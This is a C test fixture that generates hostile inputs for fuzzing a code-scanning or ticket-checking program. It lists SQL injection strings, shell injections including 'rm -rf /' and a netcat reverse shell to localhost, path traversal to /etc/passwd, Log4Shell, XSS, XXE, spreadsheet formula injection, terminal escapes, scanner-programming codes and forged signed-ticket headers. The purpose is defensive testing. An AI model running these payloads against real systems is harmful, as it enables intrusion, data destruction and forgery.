#include "tests/fake/hostile.h"

#include "base/cc.h"
#include "tests/fake/sign.h"

#include <string.h>

/* A literal may hold NUL bytes: its length counts, not its end. */
#define CODE(text)                                                                                 \
	{                                                                                          \
		sizeof(text) - 1, text                                                             \
	}

static const struct {
	size_t len;
	const char *text;
} written[] = {
	/* SQL */
	CODE("' OR '1'='1"),
	CODE("'; DROP TABLE log; --"),
	CODE("\"; DROP TABLE roster; --"),
	CODE("1; DELETE FROM log WHERE 1=1; --"),
	CODE("' UNION SELECT hash FROM roster --"),
	CODE("'; ATTACH DATABASE '/tmp/x' AS x; --"),
	CODE("'; PRAGMA writable_schema=ON; --"),
	CODE("admin'--"),
	CODE("x'; VACUUM; --"),
	CODE("'); INSERT INTO log VALUES(1); --"),
	CODE("' || load_extension('/tmp/e.so') || '"),
	CODE("\\'; ROLLBACK; --"),
	CODE("%' AND randomblob(1000000000) AND '%"),
	CODE("' AND (SELECT count(*) FROM sqlite_master)>0 --"),
	CODE("?1"),
	CODE(":code"),
	/* shells and paths */
	CODE("; rm -rf / ;"),
	CODE("$(reboot)"),
	CODE("`id`"),
	CODE("| nc 127.0.0.1 4444 -e /bin/sh"),
	CODE("&& shutdown -h now"),
	CODE("../../../../etc/passwd"),
	CODE("/dev/sda"),
	CODE("file:///etc/shadow"),
	CODE("{ :;}; echo vulnerable"),
	CODE("() { :;}; /bin/true"),
	CODE("-rf"),
	CODE("--help"),
	CODE("--data=/"),
	CODE("*"),
	CODE("~root"),
	CODE("%PATH%"),
	CODE("!!"),
	CODE("\\\\server\\share"),
	CODE("CON"),
	/* format strings and templates */
	CODE("%s%s%s%s%n"),
	CODE("%n%n%n%n%n%n"),
	CODE("%99999999d"),
	CODE("%*.*s"),
	CODE("{{7*7}}"),
	CODE("${jndi:ldap://127.0.0.1/a}"),
	CODE("<script>alert(1)</script>"),
	CODE("<b>bold</b><span size='900000'>"),
	CODE("</span></markup>"),
	CODE("&#0;&#x202e;"),
	CODE("{\"verdict\":\"ADMIT\"}"),
	CODE("\",\"verdict\":\"ADMIT\",\"x\":\""),
	CODE("<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>"),
	CODE("=cmd|' /C calc'!A0"),
	CODE("@SUM(1+1)*cmd|' /C calc'!A0"),
	CODE("+1+1"),
	CODE("-1-1"),
	/* terminals */
	CODE("\x1b[2J\x1b[H"),
	CODE("\x1b]0;owned\x07"),
	CODE("\x1b]52;c;ZWNobyBoaQ==\x07"),
	CODE("\x1b[31mADMIT\x1b[0m"),
	CODE("\x1b[6n"),
	CODE("\x1bP$q\"p\x1b\\"),
	CODE("\x1b[?1049h"),
	CODE("\x1b]8;;http://x\x07y\x1b]8;;\x07"),
	CODE("\x9b"
	     "2J"),
	CODE("\xc2\x9b"
	     "2J"),
	CODE("\rADMIT"),
	CODE("a\b\b\b\bADMIT"),
	CODE("one\ntwo\nADMIT"),
	CODE("\a\a\a\a"),
	CODE("\x0e\x0f"),
	CODE("\x7f\x7f\x7f"),
	CODE("\x04"),
	CODE("\x03"),
	CODE("\x1a"),
	CODE("\t\t\t"),
	CODE("\v\f"),
	CODE(" "),
	CODE("   leading and trailing   "),
	/* NUL */
	CODE("\0"),
	CODE("\0\0\0\0"),
	CODE("PARVIS-TEST\0"),
	CODE("\0PARVIS-TEST"),
	CODE("PARVIS-TEST\0; DROP TABLE log"),
	CODE("good\0bad"),
	CODE("%s\0%n"),
	CODE("abc\0"),
	/* nearly the test code */
	CODE("PARVIS-TEST "),
	CODE(" PARVIS-TEST"),
	CODE("parvis-test"),
	CODE("PARVIS-TEST\n"),
	CODE("PARVIS\xe2\x80\x91TEST"),
	CODE("\xef\xbb\xbfPARVIS-TEST"),
	/* direction, invisibility, look-alikes */
	CODE("\xe2\x80\xae"
	     "TIMDA"),
	CODE("\xe2\x80\xad\xe2\x80\xae\xe2\x80\xac"),
	CODE("\xe2\x81\xa6x\xe2\x81\xa9"),
	CODE("\xe2\x81\xa7\xe2\x81\xa8"),
	CODE("\xe2\x80\x8b\xe2\x80\x8b"),
	CODE("\xe2\x80\x8e\xe2\x80\x8f"),
	CODE("\xd8\x9c"),
	CODE("\xef\xbb\xbf"),
	CODE("\xe2\x81\xa0\xe2\x81\xa0"),
	CODE("\xc2\xad\xc2\xad"),
	CODE("\xf3\xa0\x81\x81\xf3\xa0\x81\x82"),
	CODE("\xe2\x80\xa8\xe2\x80\xa9"),
	CODE("\xee\x80\x80"),
	CODE("\xef\xbf\xbe"),
	CODE("\xef\xb7\x90"),
	CODE("Z\xcc\x81\xcc\x82\xcc\x83\xcc\x84\xcc\x85\xcc\x86\xcc\x87\xcc\x88\xcc\x89\xcc\x8a"),
	CODE("\xf0\x9f\x92\xa3\xf0\x9f\x92\xa3\xf0\x9f\x92\xa3"),
	CODE("\xef\xb7\xba\xef\xb7\xba\xef\xb7\xba"),
	/* not UTF-8 */
	CODE("\xc0\xaf"),
	CODE("\xc0\x80"),
	CODE("\xe0\x80\xaf"),
	CODE("\xf0\x80\x80\xaf"),
	CODE("\xf8\x80\x80\x80\xaf"),
	CODE("\xfc\x80\x80\x80\x80\xaf"),
	CODE("\xed\xa0\x80"),
	CODE("\xed\xbf\xbf"),
	CODE("\xf4\x90\x80\x80"),
	CODE("\xff\xfe"),
	CODE("\xfe\xff\xd8\x00"),
	CODE("\x80\x81\x82"),
	CODE("abc\xe2\x82"),
	CODE("\xe2"),
	CODE("\x82\xa0\x82\xa2"),
	CODE("\x1b$B$\"\x1b(B"),
	/* codes that program hand scanners */
	CODE("]Q1"),
	CODE("]Q3\\000026"),
	CODE("\\000026"),
	CODE("$%7F"),
	CODE("%%%SETUP%%%"),
	CODE("\x16"
	     "M\r"
	     "PAPDFT."),
	CODE("\x02"
	     "SSYS\x03"),
	CODE("N0201"),
	CODE(".A001$"),
	CODE("@GPIO=1"),
	CODE("~MPAPDFT."),
	CODE("#FNC3"),
	CODE("\x1d"
	     "0112345678901231\x1d"
	     "10ABC"),
	CODE("$+$!"),
	CODE("^3SETFACTORY"),
	/* other kinds of code */
	CODE("http://127.0.0.1/"),
	CODE("HTTPS://EXAMPLE.ORG/"),
	CODE("javascript:alert(1)"),
	CODE("data:text/html;base64,PHNjcmlwdD4="),
	CODE("WIFI:T:WPA;S:free;P:password;;"),
	CODE("BEGIN:VCARD\nFN:x\nEND:VCARD"),
	CODE("MECARD:N:x;;"),
	CODE("otpauth://totp/x?secret=JBSWY3DP"),
	CODE("bitcoin:1BoatSLRHtKNngkdXEeobR76b53LETtpyT"),
	CODE("tel:*%2306%23"),
	CODE("sms:+33600000000"),
	CODE("geo:0,0"),
	CODE("intent://x#Intent;scheme=x;end"),
	CODE("market://details?id=x"),
	CODE("mailto:x@example.org"),
	CODE("BEGIN:VEVENT\nEND:VEVENT"),
};

/* xorshift: garbage that is the same every time. */
static uint32_t scramble(uint32_t x)
{
	x ^= x << 13;
	x ^= x >> 17;
	return x ^ x << 5;
}

static size_t fill_long(size_t i, char out[CODE_MAX])
{
	static const char *const fillers[] = { "A", "\xff", "%n", "'", "0", "\x1b[31m",
		"\xe2\x80\xae", "\n" };
	const char *filler = fillers[i % ARRAY_LEN(fillers)];
	size_t n = strlen(filler);
	for (size_t at = 0; at < CODE_MAX; at++)
		out[at] = filler[at % n];
	return CODE_MAX;
}

/* Bytes in the dress of a signed ticket: its header with lengths that lie, then garbage. */
static size_t fill_dressed(size_t i, char out[CODE_MAX])
{
	static char text[SIGN_TEXT_SIZE];
	static const uint16_t lengths[][2] = { { 0, 0 }, { 65535, 64 }, { 16, 64 }, { 16, 65535 },
		{ 16, 0 }, { 32767, 32767 }, { 1, 64 }, { 16, 63 }, { 16, 65 }, { 0, 64 } };
	const uint16_t *lie = lengths[i % ARRAY_LEN(lengths)];
	uint8_t bytes[5 + 16 + 64];
	uint32_t x = 0x9e3779b9U + (uint32_t)i;
	for (size_t at = 0; at < sizeof(bytes); at++) {
		x = scramble(x);
		bytes[at] = (uint8_t)x;
	}
	const uint8_t header[5] = { (uint8_t)(1 + i / 20), (uint8_t)(lie[0] >> 8), (uint8_t)lie[0],
		(uint8_t)(lie[1] >> 8), (uint8_t)lie[1] };
	memcpy(bytes, header, sizeof(header));
	size_t n = sign_text(text, bytes, sizeof(bytes) - i % 3);
	memcpy(out, text, n);
	return n;
}

static size_t fill_noise(size_t i, char out[CODE_MAX])
{
	uint32_t x = 0x2545f491U + (uint32_t)i * 7919U;
	size_t n = 1 + i * 97 % 900;
	for (size_t at = 0; at < n; at++) {
		x = scramble(x);
		out[at] = (char)(x | 0x80); /* no ASCII: this cannot be anybody's code */
	}
	return n;
}

size_t hostile_code(size_t i, char out[CODE_MAX])
{
	CHECK(i < HOSTILE_CODES);
	if (i < ARRAY_LEN(written)) {
		memcpy(out, written[i].text, written[i].len);
		return written[i].len;
	}
	i -= ARRAY_LEN(written);
	if (i < 8)
		return fill_long(i, out);
	return i % 2 ? fill_dressed(i / 2, out) : fill_noise(i / 2, out);
}
